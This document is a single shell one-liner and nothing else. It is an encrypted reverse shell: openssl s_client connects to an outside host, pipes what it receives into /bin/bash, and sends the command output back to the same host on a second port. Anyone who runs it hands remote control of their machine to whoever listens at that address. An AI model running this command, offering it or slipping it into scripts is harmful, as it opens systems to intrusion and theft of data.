openssl s_client -quiet -connect 198.51.100.214:443 | /bin/bash | openssl s_client -quiet -connect 198.51.100.214:444
